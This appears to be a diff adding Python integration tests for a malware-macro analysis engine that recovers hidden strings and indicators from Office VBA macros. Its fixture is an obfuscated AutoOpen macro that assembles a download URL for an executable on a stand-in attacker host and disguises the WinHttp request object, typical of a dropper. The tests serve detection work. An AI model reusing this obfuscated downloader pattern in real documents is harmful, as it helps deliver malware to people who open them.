@@ -1,0 +1,127 @@
+"""RecoverStage integration: records, JSON schema, budgets, telemetry."""
+
+import json
+
+from repro.corpus.documents import build_document_bytes
+from repro.engine import ENGINE_SCHEMA_VERSION, AnalysisEngine, RecoverStage
+from repro.obs import MetricsRegistry
+from repro.resilience import STRICT_SA_BUDGET
+
+DECODER = (
+    "Sub AutoOpen()\n"
+    "    Dim u As String\n"
+    "    u = Chr(104) & Chr(116) & Chr(116) & Chr(112) & Chr(58) & Chr(47) & Chr(47)\n"
+    '    u = u & StrReverse("moc.live") & "/payload" & ".e" & "xe"\n'
+    '    x = Replace("WinHteRKttp.WinHteRKttpRequest", "teRK", "")\n'
+    "End Sub"
+)
+
+
+class TestMacroPath:
+    def test_recover_attaches_everything(self):
+        macro = AnalysisEngine.for_lint(recover=True).run_source(DECODER)
+        assert "http://evil.com/payload.exe" in macro.recovered_strings
+        assert "WinHttp.WinHttpRequest" in macro.recovered_strings
+        assert macro.recovery is not None
+        assert "url" in macro.recovery.ioc_kinds
+        assert "url.exe" in macro.recovery.signature_hits
+        assert macro.features["R"].shape == (6,)
+        assert macro.features["R"][0] == len(macro.recovered_strings)
+        assert any(f.o_class == "SA" for f in macro.findings)
+
+    def test_recover_off_is_the_default(self):
+        macro = AnalysisEngine.for_lint().run_source(DECODER)
+        assert macro.recovery is None
+        assert macro.recovered_strings == []
+        assert "R" not in macro.features
+        assert not any(f.o_class == "SA" for f in macro.findings)
+
+    def test_strict_budget_accepted(self):
+        engine = AnalysisEngine.for_lint(recover=True, sa_budget=STRICT_SA_BUDGET)
+        macro = engine.run_source(DECODER)
+        assert "http://evil.com/payload.exe" in macro.recovered_strings
+
+    def test_unparsable_macro_degrades_not_raises(self):
+        macro = AnalysisEngine.for_lint(recover=True).run_source(
+            "Sub Broken(((\n  ::: ???"
+        )
+        # total: the record comes back, recovery flagged or empty
+        assert macro.recovered_strings == [] or macro.recovery is not None
+
+    def test_stage_constructor_defaults(self):
+        stage = RecoverStage()
+        assert stage.name == "recover"
+
+
+class TestDocumentPath:
+    def test_json_record_shape(self):
+        blob = build_document_bytes([DECODER], "docm")
+        engine = AnalysisEngine.for_lint(recover=True)
+        record = engine.run(("doc.docm", blob))
+        payload = record.to_dict()
+        assert payload["schema_version"] == ENGINE_SCHEMA_VERSION == 2
+        macro = payload["macros"][0]
+        assert "http://evil.com/payload.exe" in macro["recovered_strings"]
+        recovery = macro["recovery"]
+        assert recovery["exhausted"] is False
+        assert recovery["parse_failed"] is False
+        assert "url" in recovery["ioc_kinds"]
+        assert recovery["strings"][0].keys() == {"value", "line", "origin"}
+        json.dumps(payload)  # fully serializable
+
+    def test_schema_version_present_without_recover(self):
+        blob = build_document_bytes([DECODER], "docm")
+        record = AnalysisEngine.for_lint().run(("doc.docm", blob))
+        payload = record.to_dict()
+        assert payload["schema_version"] == ENGINE_SCHEMA_VERSION
+        assert payload["macros"][0]["recovery"] is None
+
+    def test_batch_n_in_n_out_with_recover(self):
+        inputs = [
+            ("a.docm", build_document_bytes([DECODER], "docm")),
+            ("junk.docm", b"not a document at all"),
+            ("b.docm", build_document_bytes(["Sub B()\nEnd Sub"], "docm")),
+        ]
+        records = AnalysisEngine.for_lint(recover=True).run_batch(inputs)
+        assert len(records) == len(inputs)
+        assert [r.source_id for r in records] == ["a.docm", "junk.docm", "b.docm"]
+
+
+class TestRecoveryCache:
+    def test_variants_share_one_recovery(self):
+        # CRLF / lone-CR re-encodings normalize to the same digest, so
+        # only the first variant pays for abstract interpretation.
+        registry = MetricsRegistry()
+        engine = AnalysisEngine.for_lint(metrics=registry, recover=True)
+        variants = [
+            DECODER,
+            DECODER.replace("\n", "\r\n"),
+            DECODER.replace("\n", "\r"),
+        ]
+        macros = [engine.run_source(v) for v in variants]
+        assert registry.counters["sa.analyzed"].value == 1
+        assert registry.counters["sa.cache_hits"].value == 2
+        first = macros[0].recovered_strings
+        assert "http://evil.com/payload.exe" in first
+        assert all(m.recovered_strings == first for m in macros[1:])
+        assert all(
+            m.recovery.signature_hits == macros[0].recovery.signature_hits
+            for m in macros[1:]
+        )
+
+
+class TestTelemetry:
+    def test_sa_counters_and_stage_span(self):
+        registry = MetricsRegistry()
+        engine = AnalysisEngine.for_lint(metrics=registry, recover=True)
+        engine.run_source(DECODER)
+        engine.run_source(
+            "Sub Hang()\n    For i = 1 To 1000000000\n        s = s & \"x\"\n"
+            "    Next i\nEnd Sub"
+        )
+        counters = registry.counters
+        assert counters["sa.analyzed"].value == 2
+        assert counters["sa.budget_exhausted"].value == 1
+        assert counters["sa.budget_exhausted.loop_iterations"].value == 1
+        assert counters["sa.strings_recovered"].value >= 2
+        assert counters["sa.signature_hits"].value >= 1
